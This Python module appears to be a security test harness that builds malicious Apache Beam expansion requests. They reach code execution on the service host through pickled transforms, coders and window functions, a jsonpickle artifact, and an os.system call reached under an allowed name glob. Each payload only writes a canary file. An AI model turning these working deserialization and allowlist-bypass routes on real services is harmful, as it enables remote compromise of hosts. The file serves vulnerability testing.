# Licensed under the Apache License, Version 2.0; see LICENSE.
"""Routes by which a request runs code on the host of Beam 2.77's own expansion service, and where they are put into it.

The service that was attacked here allowed ``--fully_qualified_name_glob=apache_beam.ml.*`` only.
"""

from __future__ import annotations

import json
import os
import shlex
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any, TypeAlias

from apache_beam.internal import pickler
from apache_beam.portability import common_urns, python_urns
from apache_beam.portability.api import beam_expansion_api_pb2, beam_runner_api_pb2
from apache_beam.transforms.fully_qualified_named_transform import (
    PYTHON_FULLY_QUALIFIED_NAMED_TRANSFORM_URN,
    FullyQualifiedNamedTransform,
)
from apache_beam.utils.python_callable import PythonCallableWithSource
from google.protobuf import wrappers_pb2

ExpansionRequest: TypeAlias = beam_expansion_api_pb2.ExpansionRequest
PLACEMENTS = ("top level", "nested", "side input")
GLOB = "apache_beam.ml.*"


class Exploit:
    """Leaves a file when it is unpickled."""

    def __init__(self, canary: Path):
        self._canary = str(canary)

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self._canary, "w")


def pickled(canary: Path, use_zlib: bool = False) -> bytes:
    """Returns a pickle, as Beam writes them, that runs code."""
    return pickler.dumps(Exploit(canary), use_zlib=use_zlib)


def _wrapped(payload: bytes) -> bytes:
    return wrappers_pb2.BytesValue(value=payload).SerializeToString()


# Transforms: URN and payload ------------------------------------------------------------------------------------------

_Spec: TypeAlias = tuple[str, bytes]


def _pickled_transform(canary: Path) -> _Spec:
    return python_urns.PICKLED_TRANSFORM, pickled(canary)


def _pickled_do_fn(canary: Path) -> _Spec:
    function = beam_runner_api_pb2.FunctionSpec(urn=python_urns.PICKLED_DOFN_INFO, payload=pickled(canary))
    payload = beam_runner_api_pb2.ParDoPayload(do_fn=function)
    return common_urns.primitives.PAR_DO.urn, payload.SerializeToString()


def _pickled_combine_fn(canary: Path) -> _Spec:
    function = beam_runner_api_pb2.FunctionSpec(urn=python_urns.PICKLED_COMBINE_FN, payload=_wrapped(pickled(canary)))
    payload = beam_runner_api_pb2.CombinePayload(combine_fn=function)
    return common_urns.composites.COMBINE_PER_KEY.urn, payload.SerializeToString()


def _constructor(name: str, *arguments: Any, **keywords: Any) -> _Spec:
    _, payload = FullyQualifiedNamedTransform(name, arguments, keywords).to_runner_api_parameter(None)
    return PYTHON_FULLY_QUALIFIED_NAMED_TRANSFORM_URN, payload.SerializeToString()


def _python_callable(canary: Path) -> _Spec:
    source = f"open({str(canary)!r}, 'w') and None or (lambda: None)"
    return _constructor("denied.Constructor", function=PythonCallableWithSource(source))


def _python_object(canary: Path) -> _Spec:
    return _constructor("denied.Constructor", value=Exploit(canary))


def _function_below_the_glob(canary: Path) -> _Spec:
    return _constructor("apache_beam.ml.inference.base.os.system", f"touch {shlex.quote(str(canary))}")


def _artifact_of_mltransform(canary: Path) -> _Spec:
    folder = canary.parent / f"{canary.name}-artifact"
    folder.mkdir(exist_ok=True)
    exploit = {"py/reduce": [{"py/function": "builtins.open"}, {"py/tuple": [str(canary), "w"]}]}
    (folder / "attributes.json").write_text(json.dumps([exploit]))
    return _constructor("apache_beam.ml.transforms.base.MLTransform", read_artifact_location=os.fspath(folder))


def _write_to_big_query(canary: Path) -> _Spec:
    return "beam:transform:write_to_big_query:v0", pickled(canary)


_TRANSFORMS: Mapping[str, Callable[[Path], _Spec]] = {
    "a pickled transform": _pickled_transform,
    "a pickled DoFn": _pickled_do_fn,
    "a pickled CombineFn": _pickled_combine_fn,
    "a PythonCallable of a denied constructor": _python_callable,
    "a Python object of a denied constructor": _python_object,
    "a function below an allowed name": _function_below_the_glob,
    "an artifact of MLTransform": _artifact_of_mltransform,
    "a pickle as BigQuery's configuration": _write_to_big_query,
}


def _put_transform(request: ExpansionRequest, spec: _Spec, placement: str) -> None:
    if placement == "top level":
        request.transform.spec.urn, request.transform.spec.payload = spec
        return
    evil = _nested_transform(request)
    evil.spec.urn, evil.spec.payload = spec
    if placement == "side input":
        request.transform.inputs["side"] = "evil output"
    else:
        request.transform.subtransforms.append("evil")


def _nested_transform(request: ExpansionRequest) -> beam_runner_api_pb2.PTransform:
    """Adds a transform with an output that is like the request's input."""
    evil = request.components.transforms["evil"]
    evil.unique_name = "evil"
    evil.outputs["None"] = "evil output"
    request.components.pcollections["evil output"].CopyFrom(_input(request))
    return evil


def _input(request: ExpansionRequest) -> beam_runner_api_pb2.PCollection:
    return request.components.pcollections[next(iter(request.transform.inputs.values()))]


def _side_input(request: ExpansionRequest) -> beam_runner_api_pb2.PCollection:
    evil = _nested_transform(request)
    evil.spec.urn = common_urns.primitives.IMPULSE.urn
    request.transform.inputs["side"] = "evil output"
    return request.components.pcollections["evil output"]


# What collections are of ----------------------------------------------------------------------------------------------


def _put_coder(request: ExpansionRequest, canary: Path, placement: str) -> None:
    evil = request.components.coders["evil"]
    evil.spec.urn, evil.spec.payload = python_urns.PICKLED_CODER, _wrapped(b"evil$" + pickled(canary, use_zlib=True))
    _put_coder_id(request, "evil", placement)


def _put_coder_id(request: ExpansionRequest, coder_id: str, placement: str) -> None:
    if placement == "nested":
        of_many = request.components.coders["of many"]
        of_many.spec.urn = common_urns.coders.ITERABLE.urn
        of_many.component_coder_ids.append(coder_id)
        coder_id = "of many"
    collection = _side_input(request) if placement == "side input" else _input(request)
    collection.coder_id = coder_id


def _put_pickle_as_coder_id(request: ExpansionRequest, canary: Path, placement: str) -> None:
    _put_coder_id(request, pickled(canary).decode("ascii"), placement)


def _put_pickle_as_output_coder(request: ExpansionRequest, canary: Path, placement: str) -> None:
    coder_id = pickled(canary).decode("ascii")
    if placement == "nested":
        of_many = request.components.coders["of many"]
        of_many.spec.urn = common_urns.coders.ITERABLE.urn
        of_many.component_coder_ids.append(coder_id)
        coder_id = "of many"
    request.output_coder_requests.clear()
    request.output_coder_requests["side" if placement == "side input" else "None"] = coder_id


def _put_window_fn(request: ExpansionRequest, canary: Path, placement: str) -> None:
    evil = request.components.windowing_strategies["evil"]
    collection = _input(request)
    evil.CopyFrom(request.components.windowing_strategies[collection.windowing_strategy_id])
    evil.window_fn.urn, evil.window_fn.payload = python_urns.PICKLED_WINDOWFN, _wrapped(pickled(canary))
    if placement == "side input":
        collection = _side_input(request)
    elif placement == "nested":
        _nested_transform(request).spec.urn = common_urns.primitives.IMPULSE.urn
        collection = request.components.pcollections["evil output"]
    collection.windowing_strategy_id = "evil"


_PARTS: Mapping[str, Callable[[ExpansionRequest, Path, str], None]] = {
    "a pickled coder": _put_coder,
    "a pickle as a coder's id": _put_pickle_as_coder_id,
    "a pickle as an output's coder": _put_pickle_as_output_coder,
    "a pickled window function": _put_window_fn,
}
ROUTES = (*_TRANSFORMS, *_PARTS)


def attacks(request: ExpansionRequest, folder: Path) -> Iterator[tuple[str, ExpansionRequest, Path]]:
    """Yields every route at every place.

    Args:
        request: What a client really sends.
        folder: Where code that runs leaves files.

    Yields:
        What it is, the request, and the file that is there once its code has run.
    """
    for route in ROUTES:
        for placement in PLACEMENTS:
            attack, canary = ExpansionRequest(), folder / f"{route}-{placement}".replace(" ", "_")
            attack.CopyFrom(request)
            if route in _TRANSFORMS:
                _put_transform(attack, _TRANSFORMS[route](canary), placement)
            else:
                _PARTS[route](attack, canary, placement)
            canary.unlink(missing_ok=True)  # some code runs already where it is written into a request
            yield f"{route}, {placement}", attack, canary
